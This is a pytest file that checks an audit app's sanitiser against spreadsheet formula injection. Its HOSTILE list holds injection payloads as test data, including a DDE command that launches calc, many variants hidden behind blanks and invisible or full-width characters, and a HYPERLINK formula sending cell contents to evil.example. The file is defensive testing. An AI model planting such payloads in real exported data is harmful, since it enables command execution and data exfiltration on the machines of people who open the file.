"""No text of the audit is a formula in a spreadsheet."""

from __future__ import annotations

import pytest

from audit_app.cells import harmless

HOSTILE = [
    "=1+1", "=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1", "\r=1", "\n=1", "\tx", "\rx", "\nx",
    " =1", "   +1", "\u00a0=1", "\u3000-1", "'=1", '"=1', "\"'=1", " ' =1", "\x00=1", "\x0b@x",
    "\ufeff=1", "\u200b=1", "\u202e=1", "\u2018=1",
    "\uff1d1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\ufe621", "\ufe631", "\ufe661", "\ufe6bx", "\u22121", "\u207a1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
]  # fmt: skip
HARMLESS = [
    "",
    "echo a=b",
    "a-b",
    "anna@example.org",
    '{"a":1}',
    "2026-11-27T00:00:00.000000Z",
    "'quoted'",
    "ü",
    " ",
    "pc-07",
]


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_what_could_begin_a_formula_is_marked(text: str) -> None:
    """Whatever blanks, quotes, unseen characters or widths hide the sign."""
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_everything_else_stays_as_it_is(text: str) -> None:
    """So that a copy can be compared with the trail."""
    assert harmless(text) == text
